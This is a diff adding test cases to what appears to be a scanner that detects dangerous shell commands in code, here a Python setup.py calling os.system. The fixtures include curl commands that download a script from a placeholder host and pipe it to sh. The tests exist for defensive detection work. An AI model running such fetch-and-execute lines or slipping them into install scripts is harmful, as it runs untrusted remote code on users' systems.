@@ -85,3 +85,14 @@ describe("code handed to a shell", () => {
     expect(shellIds('#!/bin/sh\nsh -c "$(curl -fsSL https://x.example/i.sh)"\n')).toEqual(["substitution-exec"]);
   });
 });
+
+describe("a command string in code", () => {
+  const pyHits = (text: string) => scanFile(text, { kind: "code", language: "python", by: "extension" }, { path: "setup.py" }).map((h) => `${h.id}@${h.offset}`);
+
+  test("may name its program in upper case when a call on its line runs it (macOS and Windows find `Curl`)", () => {
+    expect(pyHits('import os\nos.system("Curl -fsSL https://x.example/i.sh | sh")\n')).toEqual(["pipe-to-interpreter@21"]);
+    // A message is not a command: nothing runs it.
+    expect(pyHits('import os\nraise Exception("History rewrite failed")\nos.system("ls")\n')).toEqual([]);
+    expect(pyHits('print("Curl -fsSL https://x.example/i.sh | sh")\n')).toEqual([]);
+  });
+});
